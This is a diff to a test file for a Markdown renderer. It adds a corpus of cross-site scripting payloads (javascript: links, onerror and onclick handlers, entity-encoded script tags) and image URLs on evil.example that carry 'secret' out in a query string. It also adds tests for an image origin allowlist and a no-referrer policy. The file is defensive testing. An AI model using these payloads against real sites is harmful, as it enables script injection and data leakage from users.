@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest'
 import { MarkdownRenderer } from '../../src/rendering/markdown/markdown-renderer.js'
+import { renderWhole } from './markdown-kit.js'
 
 const ELEMENTS = new Set(
   'DIV P H3 H4 H5 H6 UL OL LI SPAN STRONG EM DEL CODE PRE A BR HR BLOCKQUOTE FIGURE FIGCAPTION BUTTON TABLE THEAD TBODY TR TH TD SUP INPUT'.split(
@@ -45,6 +46,18 @@ const CORPUS = [
   '[a](https://ok.example "x\\" onmouseover=alert(1)")',
   '| <img src=x onerror=alert(1)> | b |\n| - | - |\n| <script>1</script> | c |',
   '- [x] <script>alert(1)</script>',
+  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))',
+  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
+  '[![x](https://evil.example/p.png)](javascript:alert(1))',
+  '![a\n\nb](https://evil.example/?q=\n\nsecret)',
+  '![x][r]\n\n[r]: https://evil.example/pixel.png?secret',
+  '> - > 1. [a](javascript:alert(1)) <iframe src=//evil.example>',
+  '<https://ok.example/?"onclick=alert(1)>',
+  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
+  '[a](&#x6A;avascript&#58;alert(1))',
+  '[a](jav\tascript:alert(1)) [b](\\u006aavascript:alert(1))',
+  '**<img src=x** onerror=alert(1)> *<svg/onload=alert(1)*',
+  '`<img src=x onerror=alert(1)>` ``<script>``',
 ]
 
 function check(container: HTMLElement): void {
@@ -76,9 +89,28 @@ test('raw HTML is shown as the text that it is', () => {
 })
 
 test('an image is named and linked, never loaded', () => {
-  const container = document.createElement('div')
-  new MarkdownRenderer(container).render('![a cat](https://example.org/cat.png)', true)
+  const container = renderWhole('![a cat](https://example.org/cat.png)')
   expect(container.querySelector('img')).toBe(null)
   expect(container.querySelector('a')?.href).toBe('https://example.org/cat.png')
   expect(container.textContent).toContain('a cat')
+})
+
+test('an image of an allowed origin is shown, and tells its server nothing of the page', () => {
+  const source =
+    '![a cat](https://img.example/cat.png) ![b](https://img.example.evil/?secret) ![c](http://img.example/c.png)'
+  const container = renderWhole(source, { imageOrigins: ['https://img.example'] })
+  const images = [...container.querySelectorAll('img')]
+  expect(images.map((image) => image.getAttribute('src'))).toEqual(['https://img.example/cat.png'])
+  expect(images[0]?.alt).toBe('a cat')
+  expect(images[0]?.referrerPolicy).toBe('no-referrer')
+})
+
+test('the address of an allowed image is not asked for before it is whole', () => {
+  const container = document.createElement('div')
+  const renderer = new MarkdownRenderer(container, { imageOrigins: ['https://img.example'] })
+  const source = '![a cat](https://img.example/cat.png) and'
+  for (let end = 1; end <= source.indexOf(')'); end++) {
+    renderer.render(source.slice(0, end), false)
+    expect(container.querySelector('img')).toBe(null)
+  }
 })
